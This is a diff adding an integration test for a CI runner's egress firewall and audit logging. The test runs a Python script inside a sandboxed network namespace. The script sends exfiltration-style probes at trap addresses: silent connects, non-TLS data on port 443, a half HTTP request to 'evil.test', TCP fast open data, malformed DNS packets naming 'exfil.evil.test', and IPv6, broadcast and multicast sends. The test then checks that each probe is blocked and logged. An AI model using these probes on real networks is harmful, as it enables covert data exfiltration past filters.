@@ -1118,3 +1118,173 @@ steps:
     }
     world.assert_job_left_nothing(&output);
 }
+
+const QUIET_ATTEMPTS: &str = r#"
+import socket, struct, sys, time
+t0, t1, t6 = sys.argv[1], sys.argv[2], sys.argv[3]
+def tcp(name, family, addr, payload, linger=0.3):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect(addr)
+        print("CONNECTED", name, flush=True)
+        if payload:
+            s.sendall(payload)
+        time.sleep(linger)
+    except OSError as e:
+        print("refused", name, e, flush=True)
+    finally:
+        s.close()
+def udp(name, family, addr, payload, opts=()):
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    for level, opt, val in opts:
+        s.setsockopt(level, opt, val)
+    try:
+        s.sendto(payload, addr)
+        print("SENT", name, flush=True)
+    except OSError as e:
+        print("refused", name, e, flush=True)
+    finally:
+        s.close()
+# 1-2: connect and close without a byte (a port scan, a timing channel).
+tcp("tcp-silent-5432", socket.AF_INET, (t0, 5432), b"")
+tcp("tcp-silent-443", socket.AF_INET, (t0, 443), b"")
+# 3: not TLS on 443.
+tcp("tcp-garbage-443", socket.AF_INET, (t1, 443), b"\x00\x01NOT-TLS-EXFIL\r\n")
+# 4: half an HTTP request, then close.
+tcp("tcp-partial-http-5432", socket.AF_INET, (t1, 5432), b"GET /exfil HTTP/1.1\r\nHost: evil.test\r\n")
+# 5: a TLS record header that announces more than is sent, then close.
+tcp("tcp-short-tls-8443", socket.AF_INET, (t1, 8443), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+# 6: TCP fast open: data in the SYN.
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(3)
+    s.sendto(b"TFO-EXFIL", 0x20000000, (t0, 8080))
+    print("SENT tfo-8080", flush=True)
+    s.close()
+except OSError as e:
+    print("refused tfo-8080", e, flush=True)
+# 7: garbage (not DNS) to port 53.
+udp("udp-garbage-53", socket.AF_INET, (t0, 53), b"NOT-DNS-EXFIL-DATA")
+# 8: a DNS *response* to port 53, naming an exfiltration name.
+name = b"".join(bytes([len(p)]) + p for p in b"resp.exfil.evil.test".split(b"."))
+resp = b"\xab\xcd\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01" + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x01\x02\x03\x04"
+udp("udp-dns-response-53", socket.AF_INET, (t1, 53), resp)
+# 9: a DNS query with two questions, the second an exfiltration name.
+q1 = b"\x07allowed\x04test\x00\x00\x01\x00\x01"
+q2 = b"".join(bytes([len(p)]) + p for p in b"second.exfil.evil.test".split(b".")) + b"\x00\x00\x01\x00\x01"
+udp("udp-dns-two-questions-53", socket.AF_INET, (t0, 53), b"\x11\x11\x01\x00\x00\x02\x00\x00\x00\x00\x00\x00" + q1 + q2)
+# 10: no question at all, data in an additional record.
+udp("udp-dns-no-question-53", socket.AF_INET, (t1, 53), b"\x22\x22\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01" + b"\x00\x00\x10\x00\x01\x00\x00\x00\x00\x00\x05EXFIL")
+# 11: IPv6 UDP, IPv4-mapped UDP.
+udp("udp6-9999", socket.AF_INET6, (t6, 9999), b"exfil6")
+udp("udp6-mapped-9998", socket.AF_INET6, ("::ffff:" + t0, 9998), b"exfil-mapped")
+# 12: broadcast and multicast.
+udp("udp-broadcast-9997", socket.AF_INET, ("255.255.255.255", 9997), b"bcast", [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
+udp("udp-multicast-5353", socket.AF_INET, ("224.0.0.251", 5353), b"mcast")
+# 13: DNS over TCP with a length prefix that lies, then close.
+tcp("tcp-dns-bad-length-53", socket.AF_INET, (t1, 53), b"\xff\xffEXFIL-IN-DNS-TCP")
+# 13b: DNS over TCP: connect and close without a byte.
+tcp("tcp-dns-silent-53", socket.AF_INET, (t0, 53), b"")
+# 14: IPv6 TCP to the trap's v6 address on a non-web port.
+tcp("tcp6-5432", socket.AF_INET6, (t6, 5432), b"exfil")
+"#;
+
+/// Attempts that are refused or dropped must each leave an audit event naming the
+/// destination (ip and port) and the process (pid and comm): quiet connects, non-TLS on
+/// 443, half requests, TCP fast open, non-DNS and odd DNS on 53 (a response, two
+/// questions, none, a lying TCP length, a TCP connection closed without a message), IPv6,
+/// broadcast, multicast. Found by an attack run: the DNS filter's events for messages
+/// without a readable name had neither destination nor, over TCP, process, a silent TCP
+/// connection to :53 left no event, and a second question's name was in no event.
+#[test]
+fn quiet_and_malformed_attempts_are_audited_with_destination_and_process() {
+    require_privilege!();
+    let bed = NetBed::new().expect("net bed");
+    let world = World::in_netns(bed.host_ns(), "", &egress_config());
+    let (t0, t1) = (TRAP_IPS[0], TRAP_IPS[1]);
+    let t6 = runner_agent_tests::netbed::TRAP6_IP;
+    let job = world.job(
+        "quiet.yaml",
+        &format!(
+            "name: quiet\nsteps:\n  - name: quiet attempts\n    run: |\n      python3 - {t0} {t1} {t6} <<'PY'\n{}\n      PY\n",
+            QUIET_ATTEMPTS
+                .lines()
+                .map(|l| format!("      {l}"))
+                .collect::<Vec<_>>()
+                .join("\n")
+        ),
+    );
+    let (output, events) = world.run_audited(&job);
+    std::thread::sleep(Duration::from_millis(500));
+    println!("{}", describe(&output));
+    for e in &events {
+        println!("EVENT {e}");
+    }
+    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
+    let mut problems = Vec::new();
+    let hits = bed.trap_hits();
+    if !hits.is_empty() {
+        problems.push(format!("reached a trap: {hits:?}"));
+    }
+    let leaked: Vec<_> = bed
+        .dns_hits()
+        .into_iter()
+        .filter(|h| h.name.contains("evil"))
+        .collect();
+    if !leaked.is_empty() {
+        problems.push(format!(
+            "exfiltration names reached the DNS server: {leaked:?}"
+        ));
+    }
+    let expect: &[(&str, String, u16)] = &[
+        ("tcp-silent-5432", t0.to_string(), 5432),
+        ("tcp-silent-443", t0.to_string(), 443),
+        ("tcp-garbage-443", t1.to_string(), 443),
+        ("tcp-partial-http-5432", t1.to_string(), 5432),
+        ("tcp-short-tls-8443", t1.to_string(), 8443),
+        ("tfo-8080", t0.to_string(), 8080),
+        ("udp-garbage-53", t0.to_string(), 53),
+        ("udp-dns-response-53", t1.to_string(), 53),
+        ("udp-dns-no-question-53", t1.to_string(), 53),
+        ("udp6-9999", t6.to_string(), 9999),
+        ("udp6-mapped-9998", t0.to_string(), 9998),
+        ("udp-broadcast-9997", "255.255.255.255".to_string(), 9997),
+        ("udp-multicast-5353", "224.0.0.251".to_string(), 5353),
+        ("tcp-dns-bad-length-53", t1.to_string(), 53),
+        ("tcp-dns-silent-53", t0.to_string(), 53),
+        ("tcp6-5432", t6.to_string(), 5432),
+    ];
+    for (name, ip, port) in expect {
+        let mapped = format!("::ffff:{ip}");
+        let found = events
+            .iter()
+            .any(|e| (e["ip"] == ip.as_str() || e["ip"] == mapped.as_str()) && e["port"] == *port);
+        if !found {
+            problems.push(format!("no audit event for {name} ({ip}:{port})"));
+        }
+    }
+    if !events.iter().any(|e| {
+        e["reason"]
+            .as_str()
+            .is_some_and(|r| r.contains("2 questions") && r.contains("second.exfil.evil.test"))
+    }) {
+        problems.push("no audit event names the second question's exfiltration name".into());
+    }
+    for e in &events {
+        if e["source"] == "proxy" && e["reason"].as_str().is_some_and(|r| r.contains("ended")) {
+            continue;
+        }
+        // Packets the runner's kernel sends by itself (ICMP errors) have no process.
+        if e["kind"] == "packet" && e["port"].is_null() {
+            continue;
+        }
+        if !(e["pid"].is_number() && e["comm"].is_string()) {
+            problems.push(format!("event without pid/comm: {e}"));
+        }
+        if e["verdict"] == "deny" && e["ip"].is_null() && e["host"].is_null() {
+            problems.push(format!("deny event without destination: {e}"));
+        }
+    }
+    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
+}
